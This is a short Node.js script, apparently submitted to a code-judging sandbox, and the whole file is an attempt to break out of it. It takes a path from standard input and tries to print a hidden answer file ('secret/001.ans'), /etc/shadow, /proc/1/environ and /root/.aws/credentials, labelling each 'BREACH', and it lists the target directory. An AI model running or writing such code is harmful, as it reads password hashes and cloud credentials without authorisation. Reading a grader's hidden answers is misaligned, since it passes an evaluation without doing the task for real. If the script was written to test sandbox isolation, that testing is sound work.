const fs = require("fs");
const target = fs.readFileSync(0, "utf8").trim();
for (const path of [target + "/secret/001.ans", "/etc/shadow", "/proc/1/environ", "/root/.aws/credentials"]) {
  try { console.log("BREACH", path, fs.readFileSync(path, "utf8")); } catch (e) {}
}
try { console.log("BREACH", fs.readdirSync(target)); } catch (e) {}
console.log("done");
